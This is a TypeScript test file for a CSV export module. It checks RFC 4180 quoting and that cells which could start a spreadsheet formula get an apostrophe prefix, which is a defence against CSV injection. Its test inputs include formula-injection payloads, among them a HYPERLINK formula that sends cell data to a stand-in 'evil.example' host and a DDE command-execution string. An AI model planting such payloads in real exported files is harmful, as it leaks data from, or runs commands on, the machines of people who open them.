import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvFile, csvRow } from './csv.ts';

/** Reads RFC 4180 as it is written there, one character after the other. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at] ?? '';
    if (quoted && character === '"' && text[at + 1] === '"') {
      cell += '"';
      at++;
    } else if (character === '"') quoted = !quoted;
    else if (!quoted && character === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && character === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at++;
    } else cell += character;
  }
  return rows;
}

describe('a record of CSV', () => {
  test.each([
    [['plain', ''], 'plain,\r\n'],
    [['a,b', 'say "no"'], '"a,b","say ""no"""\r\n'],
    [['two\nlines', 'two\r\nlines'], '"two\nlines","two\r\nlines"\r\n'],
    [['Zoë; Łódź', ' padded '], 'Zoë; Łódź, padded \r\n'],
    [["it's"], "it's\r\n"],
  ])('%j is quoted only where it has to be', (cells, expected) => {
    expect(csvRow(cells)).toBe(expected);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tplain',
    '\rplain',
    '\nplain',
    ' =1',
    '\u00a0=1',
    '\uFEFF=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=1",=2',
  ])('%j is no formula in it', (text) => {
    const [[read = ''] = []] = parse(csvRow([text]));
    expect(read).toBe(`'${text}`);
  });

  test.each(['1=1', 'a+b', "'=1", '"=1"', 'x@example.com', '(-1)', '$49', '2025-01-01', '—', '€'])(
    '%j stays as it is',
    (text) => {
      expect(parse(csvRow([text]))).toEqual([[text]]);
    },
  );

  test('whatever the cells hold, they are read back, and none of them starts a formula', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n", a\'') }),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        const [read = [], ...more] = parse(csvRow(cells));
        expect(more).toEqual([]);
        expect(read.length).toBe(cells.length);
        for (const [index, given] of cells.entries()) {
          expect([given, `'${given}`]).toContain(read[index]);
          expect(read[index]).not.toMatch(/^[=+\-@\t\r]/);
        }
      }),
    );
  });
});

test('a file starts with a byte order mark and its header and goes on batch by batch', async () => {
  async function* batches() {
    yield [['a'], ['=b']];
    yield [['c']];
  }
  const parts: string[] = [];
  for await (const part of csvFile(['Letter'], batches(), (cells) => cells)) parts.push(part);
  expect(parts).toEqual(['\uFEFFLetter\r\n', "a\r\n'=b\r\n", 'c\r\n']);
});
